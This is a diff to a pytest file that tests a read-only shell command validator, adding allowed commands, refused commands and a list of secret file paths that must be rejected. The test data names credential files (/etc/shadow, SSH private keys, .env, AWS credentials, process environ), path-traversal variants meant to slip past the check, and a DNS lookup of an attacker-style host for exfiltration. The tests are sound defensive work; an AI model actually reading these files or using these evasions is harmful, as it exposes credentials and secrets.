@@ -40,6 +40,18 @@ ALLOWED = [
     "ip route show",
     "hostname -f",
     "dmesg -T -l err",
+    "getent passwd deploy",
+    "getent services",
+    "ps",
+    "ps -ef",
+    "ps auxww --sort=-%mem",
+    "ps -eo pid,user,args --sort=-rss",
+    "ps -p 1,2 -o etime",
+    "docker top web",
+    "cat /etc/passwd",
+    "cat /srv/app/environments.md",
+    "grep -i shadow /etc/nsswitch.conf",
+    "grep -rn keynote /srv/notes",
 ]
 
 REFUSED = [
@@ -114,6 +126,56 @@ REFUSED = [
     "file -C -m x",
     "file --comp",
     "free -s 1",
+    "getent",
+    "getent hosts my-secret.attacker.example",
+    "getent ahosts x",
+    "getent shadow",
+    "getent -s dns passwd x",
+    "getent passwd -s dns",
+    "docker inspect web",
+    "docker top web eww",
+    "docker top",
+    "ps e",
+    "ps auxe",
+    "ps -auxe",
+    "ps -axe",
+    "ps -e aux",
+    "ps -ef -axo pid,args",
+    "ps -x -eo pid,args",
+    "ps '-ef --sort=time'",
+    "ps -o pid,environ",
+    "ps -u xe",
+]
+
+SECRETS = [
+    "/etc/shadow",
+    "/etc/shadow-",
+    "/etc//./shadow",
+    "/etc/ssh/../gshadow",
+    "/proc/1/environ",
+    "/proc/self/task/1/../../environ",
+    "/dev/fd/../environ",
+    "/home/ops/.ssh/id_ed25519",
+    "/home/ops/.ssh",
+    ".ssh/config",
+    ".SSH/config",
+    "../deploy/.ssh/authorized_keys",
+    "/srv/app/.env",
+    "/srv/app/.env.production",
+    "/srv/app/prod.env",
+    "server.pem",
+    "/etc/ssl/private/x",
+    "/etc/ssh/ssh_host_ed25519_key",
+    "id_rsa",
+    "backup/id_ecdsa.old",
+    "/run/secrets/db",
+    "/home/ops/.aws/credentials",
+    "/home/ops/.bash_history",
+    "--file=/home/ops/.ssh/id_rsa",
+    "-f.ssh/id_rsa",
+    "-rf/etc/shadow",
+    "--include=prod.env",
+    "--files0-from=.netrc",
 ]
 
 
@@ -128,6 +190,20 @@ def test_commands_that_may_do_more_are_refused_with_a_way_out(command: str) -> N
         read_only(command)
     assert caught.value.field == "inputs.command"
     assert "ssh.exec" in str(caught.value.hint)
+
+
+@pytest.mark.parametrize("path", SECRETS)
+@pytest.mark.parametrize("program", ["cat", "grep -r x", "ls", "find", "/usr/bin/stat"])
+def test_files_that_hold_secrets_are_not_read(program: str, path: str) -> None:
+    with pytest.raises(InvalidInput):
+        read_only(f"{program} {path}")
+
+
+@given(st.text("ab./-=", max_size=12), st.sampled_from(["/etc/shadow", "/.ssh/x", "/x.pem"]), st.booleans())
+def test_whatever_stands_before_a_secret_does_not_hide_it(before: str, secret: str, dashed: bool) -> None:
+    path = f"{'-' * dashed}{before}{secret}"
+    with pytest.raises(InvalidInput, match=r"may hold secrets|is not allowed"):
+        read_only(f"cat {path}")
 
 
 def test_a_very_long_command_is_refused() -> None:
